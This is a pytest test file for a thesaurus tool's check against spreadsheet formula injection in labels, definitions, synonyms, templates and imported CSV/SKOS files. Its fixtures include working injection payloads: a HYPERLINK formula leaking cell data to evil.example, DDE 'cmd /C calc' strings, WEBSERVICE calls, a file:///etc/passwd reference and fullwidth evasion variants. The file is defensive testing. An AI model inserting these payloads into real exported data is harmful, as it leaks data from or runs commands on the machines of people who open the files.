"""A text that a spreadsheet runs never reaches a CSV unseen: an error, which only the configuration allows, by the text."""

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

Run = Callable[..., Any]
Edit = Callable[[Path, str, str], None]

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Strom")'
TOLD = (
    *("--title", "Words", "--namespace", "https://example.net/words/", "--license", "CC0-1.0", "--language", "en"),
    *("--creator", "Ann", "--creator-url", "https://example.net/ann"),
)
SOURCE = "taxonomy/themes/erzeugung.yaml"


@pytest.fixture
def attacked(thesaurus: Path, edit: Edit) -> Path:
    """A thesaurus in which a label is a formula."""
    edit(thesaurus / SOURCE, "    label: Strom\n", f"    label: '{FORMULA}'\n")
    return thesaurus


def test_it_is_an_error_of_check_and_build(attacked: Path, run: Run) -> None:
    checked, built = run("check", cwd=attacked), run("build", cwd=attacked)
    assert (checked.code, built.code) == (1, 1)
    assert "error: the label of term strom begins with '=', as a spreadsheet formula does" in checked.out
    assert "[spreadsheet-formula]" in built.err
    assert not (attacked / "_build").exists()


def test_no_comment_hides_it(attacked: Path, run: Run, edit: Edit) -> None:
    edit(attacked / SOURCE, f"'{FORMULA}'", f"'{FORMULA}'  # taxokit: ignore=spreadsheet-formula")
    result = run("check", cwd=attacked)
    assert result.code == 1
    assert "[spreadsheet-formula]" in result.out
    assert "no comment can ignore spreadsheet-formula [unused-ignore]" in result.out


def test_the_configuration_allows_a_text_and_csv_has_it_unchanged(attacked: Path, run: Run) -> None:
    options = f"\n[rules.spreadsheet-formula]\nallowed = [{json.dumps(FORMULA)}]\n"
    with (attacked / "taxokit.toml").open("a", encoding="utf-8") as file:
        file.write(options)
    assert "spreadsheet-formula" not in run("check", cwd=attacked).out
    assert run("build", "--only", "csv", cwd=attacked).code == 0
    with (attacked / "_build/csv/terms.csv").open(encoding="utf-8", newline="") as file:
        assert FORMULA in {row["label"] for row in csv.DictReader(file)}


@pytest.mark.parametrize(
    "slot",
    ["heading", "full_name", "definition", "synonyms", "translations"],
)
def test_every_text_that_becomes_a_cell_is_looked_at(thesaurus: Path, run: Run, edit: Edit, slot: str) -> None:
    path, old, new = {
        "heading": ("taxonomy/taxonomy.yaml", "heading: Kleiner Thesaurus der Energie", "heading: '=A1'"),
        "full_name": ("taxonomy/taxonomy.yaml", "full_name: Musterverlag", "full_name: '=A1'"),
        "definition": (SOURCE, "definition: Bewegte elektrische Ladung.", "definition: '=A1'"),
        "synonyms": (SOURCE, "- Solarstrom", "- '=A1'"),
        "translations": (SOURCE, "label: Photovoltaics", "label: '=A1'"),
    }[slot]
    edit(thesaurus / path, old, new)
    assert "[spreadsheet-formula]" in run("check", "--select", "spreadsheet-formula", cwd=thesaurus).out


TEMPLATE = "-{version}+cmd|' /C calc'!A0&\"{creator} {title} {homepage} {license}\""
METADATA = "taxonomy/taxonomy.yaml"


@pytest.mark.parametrize("template", [TEMPLATE, "-{publisher}{title} {creator}", "={title}"])
def test_template_of_the_credit_line_is_looked_at(thesaurus: Path, run: Run, template: str) -> None:
    path = thesaurus / METADATA
    lines = path.read_text(encoding="utf-8").splitlines()
    [line] = [number for number, line in enumerate(lines) if line.startswith("credit_template:")]
    lines[line] = f"credit_template: {json.dumps(template)}"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert [(finding["path"], finding["line"]) for finding in findings(run, thesaurus)] == [(METADATA, line + 1)]
    assert run("build", cwd=thesaurus).code == 1


def test_a_list_that_is_a_formula_in_the_table_of_a_diff(thesaurus: Path, run: Run, edit: Edit) -> None:
    edit(thesaurus / SOURCE, "- Solarstrom", "- '- cmd'\n      - x!A0")
    [finding] = findings(run, thesaurus)
    assert "synonyms of term photovoltaik" in finding["message"]


ATTACKS = [
    *("=1+1", "@SUM(A1)", " =1+1", "'=1+1", '"=1+1', "＝1+1", "＠SUM(A1)", "\t=1", "\n\r=1"),
    *(
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "－ｃｍｄ｜＇ /C calc＇！A0",
        "- cmd|' /C calc'!A0",
        "-1+-cmd|'x'!A0",
    ),
    *(
        '-HYPERLINK ("http://x/?"&A1)',
        '- see WEBSERVICE("http://x")',
        '+1%+HYPERLINK("http://x/?"&A1)',
        "-[x.xlsx]S!A1",
    ),
    *("- 'Sheet 2'!A1", "-'file:///etc/passwd'#$Sheet1.A1", "-1+TODAY()", "-_xlfn.WEBSERVICE(A1)"),
]
HARMLESS = [
    "-5 °C",
    "-5–7 °C",
    "+49 30 1234567",
    "+3 more",
    "- a point!",
    "– a dash",
    "E = mc²",
    "a@b.c",
    "=",
    "-ing",
    "+-",
]


def test_texts_that_are_formulas_and_texts_that_are_not(thesaurus: Path, run: Run, edit: Edit) -> None:
    notes = json.dumps([f"a{number}" for number in range(2)] + HARMLESS, ensure_ascii=False)
    edit(thesaurus / SOURCE, "    label: Strom\n", f"    label: Strom\n    notes: {notes}\n")
    assert findings(run, thesaurus) == []
    edit(thesaurus / SOURCE, notes, json.dumps(ATTACKS, ensure_ascii=False))
    assert len(findings(run, thesaurus)) == len(ATTACKS)


def findings(run: Run, root: Path) -> list[dict[str, Any]]:
    result = run("check", "--select", "spreadsheet-formula", "--format", "json", cwd=root)
    found: list[dict[str, Any]] = json.loads(result.out)["findings"]
    return found


def test_codes_of_a_pattern_are_looked_at(thesaurus: Path, run: Run) -> None:
    model = thesaurus / "schema/generated/taxonomy.model.json"
    compiled = json.loads(model.read_text(encoding="utf-8"))
    [slot] = [slot for slot in compiled["classes"]["Term"]["slots"] if slot["name"] == "label"]
    compiled["classes"]["Term"]["slots"].append(
        {**slot, "name": "code", "kind": "string", "uri": "ex:code", "pattern": "^.+$"}
    )
    model.write_text(json.dumps(compiled), encoding="utf-8")
    path = thesaurus / SOURCE
    text = path.read_text(encoding="utf-8").replace("    coined: 1839\n", "    coined: 1839\n    code: '=A1'\n")
    path.write_text(text, encoding="utf-8")
    result = run("check", "--select", "spreadsheet-formula", cwd=thesaurus)
    assert "the code of term photovoltaik begins with '='" in result.out


@pytest.mark.parametrize("name", ["words.csv", "words.ttl"])
def test_import_reports_it(tmp_path: Path, run: Run, name: str) -> None:
    quoted = FORMULA.replace('"', '""')
    table = f'Term\n"{quoted}"\nEnergy\n'
    skos = "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
    for number, label in enumerate((FORMULA, "Energy")):
        skos += f"<https://example.net/{number}> a skos:Concept ; skos:prefLabel {json.dumps(label)}@en .\n"
    (tmp_path / name).write_text(table if name.endswith("csv") else skos, encoding="utf-8")
    mapping = ("--map", "Term=label") if name.endswith("csv") else ()
    result = run("import", name, "--into", "new", *mapping, *TOLD, cwd=tmp_path)
    assert result.code == 0
    assert "to fix: taxonomy/concepts/" in result.out
    assert "[spreadsheet-formula]" in result.out
    assert "`taxokit build` refuses until then" in result.out
    assert run("build", cwd=tmp_path / "new").code == 1
